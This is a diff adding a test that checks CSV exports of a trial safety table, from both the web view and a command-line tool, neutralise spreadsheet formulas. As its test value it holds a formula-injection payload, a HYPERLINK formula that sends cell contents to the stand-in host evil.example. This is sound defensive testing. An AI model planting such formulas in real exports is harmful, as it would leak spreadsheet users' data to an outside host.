@@ -138,3 +138,21 @@ def test_formulas_are_neutralised_in_every_csv(client, subject, users, tmp_path)
     assert CliRunner().invoke(app, command).exit_code == 0
     for path in tidy.iterdir():
         assert "HYPERLINK" not in path.read_text(), path.name  # uncoded: not even quoted
+
+
+def test_safety_table_csv_is_neutralised_too(client, subject, users, tmp_path):
+    report(subject, users, FORMULA)
+    client.force_login(users["investigator.seoul"])
+    url = reverse("safety:table_csv", args=["kim2009", "by_term"])
+    text = client.get(url).content.decode()
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    # the term as the domain stored it (lower case), quoted: shown as text, never run
+    assert [c for c in cells if "hyperlink" in c.lower()] == [
+        '\'=hyperlink("http: evil.example ?"&a1,"click")'
+    ]
+    out = tmp_path / "tables"
+    result = CliRunner().invoke(app, ["safety", "tables", "--trial", "kim2009", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    written = (out / "kim2009_by_term.csv").read_text()
+    rows = list(csv.reader(io.StringIO(written)))
+    assert next(c for row in rows for c in row if "hyperlink" in c.lower()).startswith("'=")
